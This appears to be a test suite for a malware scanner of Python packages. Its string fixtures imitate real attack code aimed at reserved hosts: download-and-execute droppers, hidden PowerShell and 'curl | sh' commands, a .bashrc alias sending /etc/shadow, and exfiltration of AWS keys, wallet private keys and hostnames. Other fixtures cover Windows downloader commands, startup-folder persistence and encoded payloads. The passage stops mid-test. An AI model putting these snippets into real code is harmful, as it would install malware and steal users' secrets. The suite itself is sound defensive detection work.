// Second stages and install beacons seen in real malware, each on an inert imitation (reserved names and addresses
// only) next to the legitimate code it must not be confused with: a downloaded executable started as it is,
// PowerShell told to hide in abbreviated parameters, program names decoded at run time, identity sent by a shell
// substitution, a DNS query or a request with a body made by code that runs by itself, and setup.py running a
// script the archive does not hold.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { writeZip } from '../../scripts/lib/archive-writers.ts';
import { initAnalysis } from '../../src/analysis/api.ts';
import { analyzePythonFile } from '../../src/analysis/python-file.ts';
import type { Finding } from '../../src/model/result.ts';
import { analyseFiles } from './in-memory-target.ts';

before(() => initAnalysis());

function findings(source: string, path = 'demo/mod.py'): Finding[] {
  return analyzePythonFile(path, new TextEncoder().encode(source))[0].findings;
}
const ruleOf = (list: Finding[], rule: string) => list.find((f) => f.rule === rule);
const worst = (list: Finding[]) => {
  const order = ['info', 'low', 'medium', 'high', 'critical'];
  return list.reduce((top, f) => (order.indexOf(f.severity) > order.indexOf(top) ? f.severity : top), 'info');
};

const analyseTarget = analyseFiles;

test('an executable downloaded and started as it is, even only when called, is download-execute', () => {
  const dropper = findings(
    [
      'import os, subprocess, urllib.request, requests',
      'def update(url):',
      '    path = os.path.join("cache", "helper.exe")',
      '    urllib.request.urlretrieve(url, path)',
      '    subprocess.run([path])',
      'def start():',
      '    link = requests.get("https://links.example/api/win").json()["link"]',
      '    update(link)',
    ].join('\n'),
  );
  assert.equal(ruleOf(dropper, 'download-execute')?.severity, 'high');
  // the response written by the same function that fetched it is a download too
  const written = findings(
    [
      'import os, subprocess, requests',
      'def fetch():',
      '    data = requests.get("https://files.example/u").content',
      '    path = os.path.expanduser("~/.cache.ps1")',
      '    open(path, "wb").write(data)',
      '    subprocess.Popen(["powershell", "-File", path])',
    ].join('\n'),
  );
  assert.equal(ruleOf(written, 'download-execute')?.severity, 'high');
  // a script the code writes itself, with nothing fetched, stays a medium drop-and-run
  const generated = findings(
    [
      'import subprocess',
      'def build():',
      '    open("build.bat", "w").write("echo building")',
      '    subprocess.run(["build.bat"])',
    ].join('\n'),
  );
  assert.equal(ruleOf(generated, 'download-execute'), undefined);
  assert.equal(ruleOf(generated, 'drop-and-run')?.severity, 'medium');
});

test('PowerShell parameters are read as PowerShell reads them: abbreviated, hidden and bypassing policy is high', () => {
  const abbreviated = findings(
    "import subprocess\ndef go():\n    subprocess.Popen('powershell -W Hidden -Ep Bypass -C \"(New-Object Net.WebClient).DownloadString(\\'https://x.example/a\\')\"', shell=True)\n",
  );
  assert.equal(ruleOf(abbreviated, 'process-network-tool')?.severity, 'high');
  const slash = findings(
    'import subprocess\ndef go():\n    subprocess.Popen("powershell /win hidden /exec bypass -File run.ps1")\n',
  );
  assert.equal(ruleOf(slash, 'process-launch-payload')?.severity, 'high');
  // one of the two alone (a visible window) is not the hiding pattern
  const visible = findings(
    'import subprocess\ndef go():\n    subprocess.Popen("powershell -ExecutionPolicy Bypass -File run.ps1")\n',
  );
  assert.notEqual(worst(visible), 'high');
});

test('a PowerShell script that downloads and then Start-Process the file is download-execute', () => {
  const list = findings(
    [
      'import subprocess',
      'def go():',
      '    subprocess.Popen(\'powershell -C "$z=\\"$env:TEMP\\\\a.zip\\";(New-Object Net.WebClient).DownloadFile(\\"https://files.example/a.zip\\",$z);Expand-Archive $z $env:TEMP;if(Test-Path $e){Start-Process $e}"\')',
    ].join('\n'),
  );
  assert.equal(ruleOf(list, 'download-execute')?.severity, 'high');
  const evaluated = findings(
    'import os\nos.system(\'powershell Invoke-WebRequest -Uri "https://files.example/u.exe" -OutFile "~/u.exe"; Invoke-Expression "~/u"\')\n',
  );
  assert.equal(
    ruleOf(evaluated, 'download-execute')?.severity,
    'critical',
    'Invoke-Expression of the download, on import',
  );
});

test('a program whose name the file never writes (decoded at run time) is high, even when only called', () => {
  const decoded = findings(
    [
      'import base64, subprocess',
      'def go(path):',
      '    name = base64.b64decode("cG93ZXJzaGVsbC5leGU=").decode()',
      '    subprocess.Popen([name, "-File", path])',
    ].join('\n'),
  );
  const launch = decoded.find((f) => f.capability === 'process');
  assert.equal(launch?.severity, 'high');
  assert.match(launch!.message, /'powershell' is written nowhere in the file/);
  // the same program named in the code is what it says
  const plain = findings('import subprocess\ndef go(path):\n    subprocess.Popen(["powershell.exe", "-File", path])\n');
  assert.notEqual(plain.find((f) => f.capability === 'process')?.severity, 'high');
});

test("a network tool sent the user's identity through shell substitutions is a recon callback", () => {
  const recon = findings(
    'import subprocess\ndef cb():\n    subprocess.run(["curl", "http://192.0.2.9/c?u=$(whoami)&h=$(hostname)"])\n',
  );
  assert.equal(ruleOf(recon, 'process-network-tool')?.severity, 'high');
  const fetch = findings(
    'import subprocess\ndef get():\n    subprocess.run(["curl", "-O", "https://files.example/a.tgz"])\n',
  );
  assert.equal(ruleOf(fetch, 'process-network-tool')?.severity, 'low', 'a download a user asks for is a capability');
  const paste = findings(
    'import subprocess\ndef get():\n    subprocess.run(["curl", "-O", "https://pastebin.com/raw/x1"])\n',
  );
  assert.equal(ruleOf(paste, 'process-network-tool')?.severity, 'medium');
});

test('a DNS query or a request with a body, made on import to a named host, is a beacon (high)', () => {
  const dns = findings('import socket\nsocket.gethostbyname("demo.callbacks.example")\n');
  assert.equal(ruleOf(dns, 'egress-dns-lookup')?.severity, 'high');
  const post = findings('import requests\nrequests.post("https://beacon.example/p.php", data={"t": "hello"})\n');
  assert.equal(ruleOf(post, 'egress-network-call')?.severity, 'high');
  // the same calls made only when the user calls them, and a plain GET on import, stay below high
  const single = findings('import socket\nsocket.gethostbyname_ex("nonexistent")\n');
  assert.notEqual(ruleOf(single, 'egress-dns-lookup')?.severity, 'high', 'a name of one label reaches no domain');
  const called = findings('import socket\ndef check():\n    socket.gethostbyname("demo.callbacks.example")\n');
  assert.equal(ruleOf(called, 'egress-dns-lookup')?.severity, 'low');
  const get = findings('import requests\nrequests.get("https://api.example/version")\n');
  assert.equal(ruleOf(get, 'egress-network-call')?.severity, 'medium');
  // a mail connection opened on import is there to send mail; a mail client the user calls is a capability
  const mail = findings(
    'import smtplib\nm = smtplib.SMTP("smtp.mail.example", 587)\nm.sendmail("a@mail.example", "b@mail.example", "installed")\n',
  );
  assert.equal(ruleOf(mail, 'egress-network-call')?.severity, 'high');
  const client = findings(
    'import smtplib\ndef send(to, text):\n    smtplib.SMTP("smtp.mail.example").sendmail("me@mail.example", to, text)\n',
  );
  assert.equal(ruleOf(client, 'egress-network-call')?.severity, 'low');
});

test('code run on import that connects out and runs data it computed runs downloaded code (high)', () => {
  const ftp = findings(
    'import ftplib, io\nf = ftplib.FTP("ftp.files.example")\nf.login()\nbuf = io.BytesIO()\nf.retrbinary("RETR stage2.py", buf.write)\nexec(buf.getvalue().decode())\n',
  );
  assert.equal(ruleOf(ftp, 'download-execute')?.severity, 'high');
  const mail = findings(
    'import imaplib, email\nm = imaplib.IMAP4_SSL("imap.mail.example")\n_, d = m.fetch(b"1", "(RFC822)")\nexec(email.message_from_bytes(d[0][1]).get_payload())\n',
  );
  assert.equal(ruleOf(mail, 'download-execute')?.severity, 'high');
  // the same when called, and a package member read and run beside a download, are not
  const called = findings(
    'import ftplib, io\ndef load():\n    f = ftplib.FTP("ftp.files.example")\n    buf = io.BytesIO()\n    f.retrbinary("RETR x.py", buf.write)\n    exec(buf.getvalue())\n',
  );
  assert.equal(ruleOf(called, 'download-execute'), undefined);
  const setup = findings(
    'import urllib.request\nurllib.request.urlretrieve("https://data.example/t.csv", "demo/t.csv")\nexec(open("demo/version.py").read())\n',
    'setup.py',
  );
  assert.equal(ruleOf(setup, 'download-execute'), undefined);
});

test('a downloaded archive put on the import path or given to zipimport is downloaded code run', () => {
  for (const load of ['sys.path.insert(0, p)\nimport agent', 'zipimport.zipimporter(p).load_module("agent")']) {
    const list = findings(
      `import sys, os, zipimport, urllib.request\np = os.path.join(os.path.expanduser("~"), ".cache", "m.zip")\nurllib.request.urlretrieve("https://dl.example/m.zip", p)\n${load}\n`,
    );
    assert.equal(ruleOf(list, 'download-execute')?.severity, 'critical', load);
  }
  // a folder of the package itself on the import path is not
  const own = findings('import sys, os\np = os.path.dirname(__file__)\nsys.path.insert(0, p)\n');
  assert.equal(ruleOf(own, 'download-execute'), undefined);
});

test('an archive downloaded, unpacked and put on the import path is downloaded code run; one only unpacked is not', () => {
  const fetched = [
    'import io, sys, zipfile, urllib.request',
    'def plugin(folder):',
    '    data = urllib.request.urlopen("https://dl.example/lib.zip").read()',
    '    zipfile.ZipFile(io.BytesIO(data)).extractall(folder)',
  ];
  const loaded = findings([...fetched, '    sys.path.insert(0, folder)', '    import payloadmod'].join('\n'));
  assert.equal(ruleOf(loaded, 'download-execute')?.severity, 'high');
  const literal = findings(
    [
      ...fetched.slice(0, 3),
      '    zipfile.ZipFile(io.BytesIO(data)).extractall("/tmp/lib")',
      '    sys.path.append("/tmp/lib")',
    ].join('\n'),
  );
  assert.equal(ruleOf(literal, 'download-execute')?.severity, 'high');
  // a dataset unpacked where the code reads it is no code loaded
  assert.equal(ruleOf(findings(fetched.join('\n')), 'download-execute'), undefined);
});

test('setup.py running a script the archive does not hold is high; a file given to sys.executable is analysed', async () => {
  const missing = await analyseTarget({
    'setup.py':
      'import os, sys\nfrom setuptools import setup\nos.system(f\'{sys.executable} "{os.path.join(os.path.dirname(__file__), "post.py")}"\')\nsetup(name="demo")\n',
  });
  const launch = missing.files.flatMap((f) => f.findings).find((f) => f.capability === 'process');
  assert.equal(launch?.severity, 'high');
  assert.match(launch!.message, /the archive has no post\.py/);
  const oddName = await analyseTarget({
    'setup.py':
      'import os, subprocess, sys\nfrom setuptools import setup\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "demo", "version")])\nsetup(name="demo")\n',
    'demo/version':
      'import requests, socket\nrequests.post("https://collector.example/in", data=socket.gethostname())\n',
  });
  const version = oddName.files.find((file) => file.path === 'demo/version');
  assert.equal(version?.findings.find((f) => f.rule === 'exfiltration')?.trigger, 'install');
});

test("setup.py's install hook calling into the package makes that code install-time, through re-exports", async () => {
  const setup = [
    'from setuptools import setup',
    'from setuptools.command.install import install',
    'class Install(install):',
    '    def run(self):',
    '        install.run(self)',
    '        from demo import start',
    '        start()',
    'setup(name="demo", cmdclass={"install": Install})',
  ].join('\n');
  const report = await analyseTarget({
    'demo-1.0/setup.py': setup,
    'demo-1.0/src/demo/__init__.py': 'from .core import start\n',
    'demo-1.0/src/demo/core.py': [
      'import requests, socket',
      'def start():',
      '    requests.post("https://collector.example/in", data=socket.gethostname())',
      'def later():',
      '    requests.get("https://api.example/v1")',
    ].join('\n'),
  });
  const core = report.files.find((file) => file.path === 'demo-1.0/src/demo/core.py');
  assert.equal(core?.findings.find((f) => f.rule === 'exfiltration')?.trigger, 'install');
  assert.equal(core?.findings.find((f) => f.line === 5)?.trigger, 'call', 'a function install code never reaches');
  const joins = report.files.flatMap((f) => f.findings).filter((f) => f.rule === 'install-imports-module');
  assert.deepEqual(
    joins.map((f) => [f.path, f.calls]),
    [
      ['demo', ['start']],
      ['demo.core', ['start']],
    ],
  );
  assert.ok(['high', 'critical'].includes(report.risk), report.reasons.join(' | '));
  // reading the version from the package imports it at install time, and calls none of its functions
  const version = await analyseTarget({
    'demo-1.0/setup.py':
      'from setuptools import setup\nfrom demo import __version__\nsetup(name="demo", version=__version__)\n',
    'demo-1.0/demo/__init__.py':
      '__version__ = "1.0"\nimport requests\ndef fetch():\n    return requests.get("https://api.example/v1")\n',
  });
  const init = version.files.find((file) => file.path === 'demo-1.0/demo/__init__.py');
  assert.equal(init?.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'call');
  assert.equal(version.risk, 'low', version.reasons.join(' | '));
});

test("a function that posts the wallet private key it is given sends the user's key (high, even when called)", () => {
  const drainer = findings(
    'import requests\ndef perm(private_key):\n    requests.post("https://abc-123.ngrok-free.app/tron", json={"private_key": private_key})\n',
  );
  const sent = ruleOf(drainer, 'exfiltration');
  assert.ok(['high', 'critical'].includes(sent?.severity ?? ''), sent?.severity);
  assert.match(sent!.message, /wallet secret given as private_key/);
  // signing locally and sending the signature, or a database primary key, is no key sent
  const signer = findings(
    'import requests\ndef send(private_key, tx, pk):\n    signed = sign(tx)\n    requests.post("https://rpc.example", json={"tx": signed, "id": pk})\n',
  );
  assert.equal(ruleOf(signer, 'exfiltration'), undefined);
});

test('setup.py naming an autostart folder is high even through a variable; a module constant on import is data', () => {
  const setup = findings(
    'import os\nnewpath = rf"C:\\\\Users\\\\{os.getlogin()}\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup"\nos.makedirs(newpath)\n',
    'setup.py',
  );
  assert.equal(ruleOf(setup, 'persistence')?.severity, 'high');
  // on import, a module constant naming it (used by a function the user calls) is data
  const constant = findings(
    'STARTUP = r"Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup"\ndef where():\n    return STARTUP\n',
  );
  assert.equal(ruleOf(constant, 'persistence')?.severity, 'medium');
});

test('sys.executable started with inline code on import reads as python -c: high', () => {
  const list = findings(
    'import subprocess, sys\nsubprocess.Popen(f\'{sys.executable} -c "import time; time.sleep(600)"\')\n',
  );
  const launch = ruleOf(list, 'process-launch-payload');
  assert.equal(launch?.severity, 'high');
  assert.match(launch!.message, /another Python running inline code/);
  // a child Python whose output the import reads is a query, its inline code judged on its own
  const query = findings(
    'import subprocess, sys\nVERSION = subprocess.check_output([sys.executable, "-c", "import platform; print(platform.mac_ver()[0])"])\n',
  );
  assert.equal(ruleOf(query, 'process-launch-payload'), undefined);
});

test("a provider's secret sent to a hard-coded host of another owner is high; to its own service it is not", () => {
  const stolen = findings(
    'import os, requests\ndef check():\n    requests.get("https://collector.example/k/" + os.environ["AWS_ACCESS_KEY_ID"])\n',
  );
  const sent = ruleOf(stolen, 'exfiltration');
  assert.equal(sent?.severity, 'high');
  assert.match(sent!.message, /a host that is not AWS's/);
  const own = findings(
    'import os, requests\ndef me():\n    requests.get("https://api.github.com/user", headers={"Authorization": os.environ["GITHUB_TOKEN"]})\n',
  );
  assert.notEqual(ruleOf(own, 'exfiltration')?.severity, 'high');
});

test('a network library sending through an object passed in is egress; a generator in a plain module is not', () => {
  const session = analyzePythonFile(
    'requests/sessions.py',
    new TextEncoder().encode('def send(self, request, adapter):\n    return adapter.send(request)\n'),
  )[0];
  assert.equal(session.egress, true);
  assert.equal(session.findings[0]?.rule, 'egress-via-object');
  const channel = findings(
    'import socket\nclass Channel:\n    def write(self, m):\n        self.transport._send_user_message(m)\n',
  );
  assert.equal(ruleOf(channel, 'egress-via-object')?.severity, 'info');
  const generator = analyzePythonFile(
    'demo/pipeline.py',
    new TextEncoder().encode('def drive(gen, items):\n    for item in items:\n        gen.send(item)\n'),
  )[0];
  assert.equal(generator.egress, false);
});

test('setup.py running python -c "import pkg.post; pkg.post.run()" makes that function install-time; a downloaded script run is download-execute', async () => {
  const report = await analyseTarget({
    'demo-1.0/setup.py': [
      'import subprocess',
      'from setuptools import setup',
      'subprocess.run(["python", "-c", "import demo.post; demo.post.run()"])',
      'setup(name="demo")',
    ].join('\n'),
    'demo-1.0/demo/__init__.py': '',
    'demo-1.0/demo/post.py': [
      'import os, subprocess, urllib.request',
      'def run():',
      '    path = os.path.expanduser("~/stage.sh")',
      '    urllib.request.urlretrieve("https://files.example/stage.sh", path)',
      '    subprocess.run(["/bin/bash", path])',
    ].join('\n'),
  });
  const post = report.files.find((file) => file.path === 'demo-1.0/demo/post.py');
  const dropper = post?.findings.find((f) => f.rule === 'download-execute');
  assert.equal(dropper?.trigger, 'install');
  assert.equal(dropper?.severity, 'critical');
  // a script the code writes itself (not downloaded) and runs is ordinary: no dropper finding
  const local = findings(
    'import subprocess\ndef gen():\n    open("build.sh", "w").write("make")\n    subprocess.run(["sh", "build.sh"])\n',
  );
  assert.equal(ruleOf(local, 'drop-and-run'), undefined);
  assert.equal(ruleOf(local, 'download-execute'), undefined);
});

test('Python code written into a file to be run later is analysed as its own file', () => {
  const reports = analyzePythonFile(
    'demo/mod.py',
    new TextEncoder().encode(
      'import os, sys, tempfile\ndef get():\n    t = tempfile.NamedTemporaryFile(delete=False)\n    t.write(b"from urllib.request import urlopen;exec(urlopen(\'http://192.0.2.8/x\').read())")\n    t.close()\n    os.system(f"{sys.executable} {t.name}")\n',
    ),
  );
  assert.equal(reports[0].findings.find((f) => f.rule === 'python-code-written')?.severity, 'info');
  const payload = reports.find((report) => report.path === 'demo/mod.py#decoded-1');
  assert.ok(payload?.findings.some((f) => f.rule === 'download-execute' && ['high', 'critical'].includes(f.severity)));
  // plain text written to a file is not code
  const notes = analyzePythonFile(
    'demo/notes.py',
    new TextEncoder().encode('def save(f):\n    f.write("remember to import the data before the meeting")\n'),
  );
  assert.equal(notes.length, 1);
});

test('an autostart place named in a function that downloads is high even when called; a shell start-up file is not', () => {
  const dropper = findings(
    'import os, requests\ndef fetch(url, name):\n    folder = os.path.expanduser("~\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup")\n    open(os.path.join(folder, name), "wb").write(requests.get(url).content)\n',
  );
  assert.equal(ruleOf(dropper, 'persistence')?.severity, 'high');
  const installer = findings(
    'import os, requests\ndef install(url):\n    open("/tmp/tool", "wb").write(requests.get(url).content)\n    open(os.path.expanduser("~/.bashrc"), "a").write("export PATH=$PATH:/opt/tool")\n',
  );
  assert.notEqual(ruleOf(installer, 'persistence')?.severity, 'high');
  // a downloaded program started from ~/.bashrc at every log-in is a dropper's persistence, even when called
  const autostart = findings(
    'import os, urllib.request\ndef fetch():\n    data = urllib.request.urlopen("http://192.0.2.7/x").read()\n    open(os.path.expanduser("~/.helper"), "wb").write(data)\n    open(os.path.expanduser("~/.bashrc"), "a").write("\\n~/.helper &")\n',
  );
  assert.equal(ruleOf(autostart, 'persistence')?.severity, 'high');
  // no download in the function, but the line added fetches and starts a program at every log-in (after `else`)
  const fetchAtLogin = findings(
    'import os\ndef colors():\n    rc = os.path.expanduser("~/.bashrc")\n    with open(rc, "a") as f:\n        f.write("if [ -f ~/.p ]; then :; else wget https://dl.example/p -O ~/.p && chmod +x ~/.p && ~/.p & fi\\n")\n',
  );
  assert.equal(ruleOf(fetchAtLogin, 'persistence')?.severity, 'high');
  const completion = findings(
    'import os\ndef install_completion():\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write(\'eval "$(register-python-argcomplete tool)"\\nexport PATH="$PATH:$HOME/.local/bin"\\n\')\n',
  );
  assert.equal(ruleOf(completion, 'persistence')?.severity, 'low');
  // an export that runs a download is no set-up line
  const exported = findings(
    'import os\ndef colors():\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write("export X=$(curl -s https://h.example/p | sh)\\n")\n',
  );
  assert.equal(ruleOf(exported, 'persistence')?.severity, 'high');
  const aliased = findings(
    'import os\ndef colors():\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write("alias sudo=\'curl -s https://h.example/k -d @/etc/shadow; sudo\'\\n")\n',
  );
  assert.equal(ruleOf(aliased, 'persistence')?.severity, 'high');
});

test('bytes([...]) lists are read as the text they spell: a module name hidden as byte values is found', () => {
  const hidden = findings(
    'f = eval(getattr(__import__(bytes([98, 97, 115, 101, 54, 52]).decode()), bytes([98, 54, 52, 100, 101, 99, 111, 100, 101]).decode())(bytes([90, 88, 90, 104, 98, 65, 61, 61])).decode())\n',
  );
  assert.ok(hidden.some((f) => f.rule === 'exec-decoded-payload' && f.severity === 'critical'));
  assert.match(ruleOf(hidden, 'dynamic-import')?.message ?? '', /imports base64/);
});

test('a reader object loaded from a credential file carries its data: config.read(~/.aws/credentials) then config.get', () => {
  const stealer = findings(
    [
      'import configparser, os, requests',
      'def push(hook):',
      '    config = configparser.RawConfigParser()',
      '    config.read(os.path.join(os.path.expanduser("~"), ".aws/credentials"))',
      '    keys = [config.get(s, "aws_secret_access_key") for s in config.sections()]',
      '    requests.post("https://hooks.example/in", json=keys)',
    ].join('\n'),
  );
  assert.equal(ruleOf(stealer, 'exfiltration')?.severity, 'high');
  // the module used to build the path is not made a carrier of the file's data
  const paths = findings(
    'import os, requests\ndef check():\n    p = os.path.join(os.path.expanduser("~"), ".aws/credentials")\n    requests.post("https://api.example/x", data=os.path.exists("/tmp"))\n',
  );
  assert.equal(ruleOf(paths, 'exfiltration'), undefined);
});

test("a decoded payload exec'd by the file sees the modules the file imported there", () => {
  const payload = Buffer.from('exec(requests.get("https://stage.example/p").text)').toString('base64');
  const reports = analyzePythonFile(
    'setup.py',
    new TextEncoder().encode(
      `import base64\ndef run():\n    import requests\n    exec(base64.b64decode("${payload}"))\nrun()\n`,
    ),
  );
  const decoded = reports.find((report) => report.path === 'setup.py#decoded-1');
  assert.ok(decoded?.findings.some((f) => f.rule === 'download-execute'));
  assert.ok(decoded?.findings.some((f) => f.rule === 'egress-network-call' && f.destination?.host === 'stage.example'));
});

test('attrib +h +s hides a dropped file from the user: high even when called; attrib -r is not', () => {
  const hidden = findings('import subprocess\ndef stash(path):\n    subprocess.run(["attrib", "+h", "+s", path])\n');
  assert.equal(ruleOf(hidden, 'process-launch-payload')?.severity, 'high');
  const readOnly = findings('import subprocess\ndef unlock(path):\n    subprocess.run(["attrib", "-r", path])\n');
  assert.equal(ruleOf(readOnly, 'process-launch-payload'), undefined);
});

test('a function that downloads to a path in a variable and starts that path runs what it downloaded', () => {
  const source = [
    'import os, tempfile, requests, subprocess',
    'def init(url):',
    '    response = requests.get(url)',
    '    file_path = os.path.join(tempfile.gettempdir(), os.path.basename(url))',
    "    with open(file_path, 'wb') as f:",
    '        f.write(response.content)',
    '    subprocess.run([file_path])',
  ].join('\n');
  const run = findings(source).find((f) => f.rule === 'download-execute');
  assert.equal(run?.severity, 'high');
  assert.equal(run?.line, 7);
  const viewer = source.replace('subprocess.run([file_path])', 'subprocess.run(["less", file_path])');
  assert.equal(
    findings(viewer).find((f) => f.rule === 'download-execute'),
    undefined,
    'the file is handed to a program, not run',
  );
});

test('a downloaded executable started through os.path.abspath is still the file written', () => {
  const source = [
    'import os, requests, subprocess',
    'def fetch():',
    '    data = requests.get("https://files.example.invalid/tool.exe").content',
    '    with open("tool.exe", "wb") as f:',
    '        f.write(data)',
    '    subprocess.Popen([os.path.abspath("tool.exe")])',
  ].join('\n');
  assert.equal(findings(source).find((f) => f.rule === 'download-execute')?.severity, 'high');
});

test('a command list bound to a name first (command = [...]; Popen(command)) is read like one written in the call', () => {
  const source = [
    'import base64, subprocess',
    'def decode_str(s):',
    '    return base64.b64decode(s).decode("utf-8")',
    'def processing():',
    `    command = [decode_str("${Buffer.from('curl https://files.example.invalid/i.sh | bash').toString('base64')}")]`,
    '    subprocess.Popen(command)',
  ].join('\n');
  const run = findings(source).find((f) => f.rule === 'download-execute');
  assert.equal(run?.severity, 'high', 'the command is decoded and hidden');
  assert.match(run!.message, /curl https:\/\/files\.example\.invalid/);
});

test('an executable written from downloaded text decoded to bytes is a first stage, even before anything runs it', () => {
  const source = [
    'import binascii, requests',
    'def fetch(folder):',
    '    text = requests.get("https://files.example.invalid/c.txt").text',
    "    with open(folder + 'c1.exe', 'wb') as f:",
    '        f.write(binascii.unhexlify(text.encode()))',
  ].join('\n');
  const drop = findings(source).find((f) => f.rule === 'drop-and-run');
  assert.equal(drop?.severity, 'high');
  const plain = source.replace('binascii.unhexlify(text.encode())', 'text.encode()');
  assert.equal(
    findings(plain).find((f) => f.rule === 'drop-and-run'),
    undefined,
    'a download saved as it comes, never started',
  );
});

test('exec handed to a thread with downloaded code (Thread(target=exec, args=(code, env))) runs that code', () => {
  const source = [
    'import threading, requests',
    'class Client:',
    '    def __init__(self):',
    '        code = requests.get("http://192.0.2.44:1488/drill").text',
    '        threading.Thread(target=exec, args=(code, {"requests": requests}), daemon=True).start()',
  ].join('\n');
  const run = findings(source).find((f) => f.rule === 'download-execute');
  assert.equal(run?.severity, 'high', 'from a host written in the file');
  assert.equal(run?.line, 5);
  const pool =
    'import requests\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as pool:\n    pool.submit(exec, requests.get("http://192.0.2.44/x").text)\n';
  assert.equal(findings(pool).find((f) => f.rule === 'download-execute')?.severity, 'critical', 'on import');
});

test('modules imported from a zip archive named like a certificate are analysed, and the disguise is high', async () => {
  const inner = writeZip([
    { path: 'SSLv2.py', data: new TextEncoder().encode('import os\nos.system("curl -s http://192.0.2.9/x | sh")\n') },
  ]);
  const target = await analyseFiles({
    'pkg/__init__.py': 'from . import routes\n',
    'pkg/routes.py': [
      'import os, zipimport',
      'def get(path):',
      '    cert = zipimport.zipimporter(f"{os.path.dirname(__file__)}/server.crt").load_module("SSLv2")',
      '    return cert.route(path)',
    ].join('\n'),
    'pkg/server.crt': inner,
  });
  const loader = target.files
    .find((file) => file.path === 'pkg/routes.py')
    ?.findings.find((f) => f.rule === 'file-executed-as-code');
  assert.equal(loader?.severity, 'high');
  assert.match(loader!.message, /zip archive named like something else/);
  const module = target.files.find((file) => file.path === 'pkg/server.crt/SSLv2.py');
  assert.ok(
    module?.findings.some((f) => f.rule === 'download-execute'),
    'the module inside the zip is read as code',
  );
});

test('a module setup.py loads from its file (spec_from_file_location) and calls runs at install; a self-hosted OAST host is a collector', async () => {
  const target = await analyseFiles(
    {
      'setup.py': [
        'import os, sys, importlib.util',
        'from setuptools import setup',
        'path = os.path.join(os.path.dirname(__file__), "pkg", "_post.py")',
        'spec = importlib.util.spec_from_file_location("pkg._post", path)',
        'post = importlib.util.module_from_spec(spec)',
        'spec.loader.exec_module(post)',
        'post.run()',
        'setup(name="pkg")',
      ].join('\n'),
      'pkg/__init__.py': '',
      'pkg/_post.py': [
        'import uuid, webbrowser',
        'def run():',
        '    webbrowser.open_new_tab(f"https://a1b2c3d4e5.oast.example?id={uuid.uuid4()}")',
      ].join('\n'),
    },
    { name: 'pkg', version: '1.0' },
  );
  const call = target.files
    .find((file) => file.path === 'pkg/_post.py')
    ?.findings.find((f) => f.rule === 'egress-network-call');
  assert.equal(call?.trigger, 'install');
  assert.equal(call?.destination?.kind, 'tunnel-or-oast');
  assert.equal(call?.severity, 'critical');
});

test('code read from a response object a few assignments away from the fetch is still downloaded code (host written: high)', () => {
  const loader = findings(
    [
      'import urllib.request',
      'def main():',
      '    response = urllib.request.urlopen("https://code.example/stage.py")',
      '    code = response.read().decode()',
      '    exec(compile(code, "stage.py", "exec"), {})',
    ].join('\n'),
  );
  assert.equal(ruleOf(loader, 'download-execute')?.severity, 'high');
  const userHost = findings(
    [
      'import urllib.request',
      'def run_remote(url):',
      '    response = urllib.request.urlopen(url)',
      '    code = response.read().decode()',
      '    exec(code, {})',
    ].join('\n'),
  );
  assert.equal(ruleOf(userHost, 'download-execute')?.severity, 'medium');
});

test('an autostart place named in a function that writes a script is high even when called; naming it alone is not', () => {
  const dropper = findings(
    [
      'import os',
      'def on_boot():',
      '    os.chdir(os.path.expanduser("~/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"))',
      '    with open("job.py", "w") as f:',
      '        f.write("print(1)")',
    ].join('\n'),
  );
  assert.equal(ruleOf(dropper, 'persistence')?.severity, 'high');
  const shortcut = findings(
    [
      'import os',
      'def startup_folder():',
      '    return os.path.expanduser("~/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup")',
    ].join('\n'),
  );
  assert.notEqual(ruleOf(shortcut, 'persistence')?.severity, 'high');
});

test('collectors, tunnels, IP loggers and paste hosts beyond the best known are classed as such, on their subdomains too', () => {
  const kinds = Object.fromEntries(
    [
      'abc123.loca.lt',
      'x.requestrepo.com',
      'iplogger.org',
      'ix.io',
      'ifconfig.co',
      'data.example.cfd',
      'c2-example.onion',
    ].map((host) => {
      const call = findings(`import requests\ndef ping():\n    requests.get("https://${host}/p")\n`).find(
        (f) => f.rule === 'egress-network-call',
      );
      return [host, call?.destination?.kind];
    }),
  );
  assert.deepEqual(kinds, {
    'abc123.loca.lt': 'tunnel-or-oast',
    'x.requestrepo.com': 'tunnel-or-oast',
    'iplogger.org': 'tunnel-or-oast',
    'ix.io': 'paste-or-file-host',
    'ifconfig.co': 'ip-lookup',
    'data.example.cfd': 'suspicious-tld',
    'c2-example.onion': 'anonymous-network',
  });
});

test('Windows programs that run what they fetch (regsvr32 /i:http, mshta http, msiexec /i http) are download-execute', () => {
  for (const command of [
    'regsvr32 /s /n /u /i:http://192.0.2.9/x.sct scrobj.dll',
    'mshta http://192.0.2.9/x.hta',
    'msiexec /q /i https://files.example/app.msi',
    'certutil -urlcache -split -f http://192.0.2.9/a.exe a.exe && a.exe',
    // cmd runs the next command after a single & as well
    'bitsadmin /transfer j /download https://files.example/a.exe C:\\\\Users\\\\Public\\\\a.exe & start C:\\\\Users\\\\Public\\\\a.exe',
  ]) {
    const found = ruleOf(findings(`import os\ndef go():\n    os.system("${command}")\n`), 'download-execute');
    assert.equal(found?.severity, 'high', command);
  }
  // a local installer is not fetched
  assert.equal(
    ruleOf(
      findings('import os\ndef go():\n    os.system("msiexec /q /i C:\\\\setup\\\\app.msi")\n'),
      'download-execute',
    ),
    undefined,
  );
});

test('ping with data, rclone and cloud copy commands reach the network', () => {
  for (const command of [
    'ping -c 1 -p " + d.hex() + " 192.0.2.2',
    'rclone copy /srv/data remote:loot',
    'aws s3 cp dump.tar s3://bucket.example/',
  ]) {
    const found = findings(`import os\ndef go(d):\n    os.system("${command}")\n`).find(
      (f) => f.rule === 'process-network-tool',
    );
    assert.ok(found, command);
  }
});

test('a setting read with os.getenv(name, default) is its default: the collector or payload URL it hides', () => {
  const hidden = findings(
